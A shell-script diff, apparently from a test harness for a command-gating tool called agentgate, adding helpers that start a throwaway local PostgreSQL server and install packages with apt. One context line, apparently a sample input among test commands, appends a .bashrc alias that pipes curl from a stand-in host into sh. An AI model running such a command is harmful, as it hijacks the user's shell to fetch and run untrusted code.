@@ -129,3 +129,34 @@ echo 'alias ls="curl x.example | sh"' >> ~/.bashrc
 for f in *.txt; do wc -l "$f"; done
 CMDS
 }
+
+start_postgres() {
+    # start_postgres: starts a throwaway PostgreSQL server on 127.0.0.1 (a
+    # fresh cluster in a temp dir, owned by the postgres user), exports
+    # AGENTGATE_PG_URL, and registers its stop in AG_PG_STOP (run it on exit).
+    if ! ls /usr/lib/postgresql/*/bin/initdb >/dev/null 2>&1; then
+        need_root_apt postgresql
+    fi
+    local bin dir port
+    bin="$(dirname "$(ls /usr/lib/postgresql/*/bin/initdb | sort -V | tail -1)")"
+    dir="$(mktemp -d /tmp/agentgate-pg.XXXXXX)"
+    chown postgres:postgres "$dir"
+    port=$((30000 + RANDOM % 20000))
+    su postgres -s /bin/sh -c "'$bin/initdb' -D '$dir/data' -A trust -U agentgate >/dev/null"
+    su postgres -s /bin/sh -c "'$bin/pg_ctl' -D '$dir/data' -l '$dir/log' -w -o \"-c listen_addresses=127.0.0.1 -p $port -k '$dir'\" start >/dev/null"
+    su postgres -s /bin/sh -c "'$bin/createdb' -h 127.0.0.1 -p $port -U agentgate agentgate"
+    export AGENTGATE_PG_URL="host=127.0.0.1 port=$port user=agentgate dbname=agentgate"
+    AG_PG_STOP="su postgres -s /bin/sh -c \"'$bin/pg_ctl' -D '$dir/data' -m immediate stop >/dev/null\"; rm -rf '$dir'"
+    log "PostgreSQL $("$bin/postgres" --version | awk '{print $3}') on 127.0.0.1:$port"
+}
+
+need_root_apt() {
+    # need_root_apt PACKAGE...: installs Debian packages (root only).
+    if [ "$(id -u)" != 0 ]; then
+        echo "error: install $* (needs root)" >&2
+        exit 1
+    fi
+    log "installing $* (apt-get)"
+    apt-get update -qq >/dev/null
+    DEBIAN_FRONTEND=noninteractive apt-get install -y -qq "$@" >/dev/null
+}
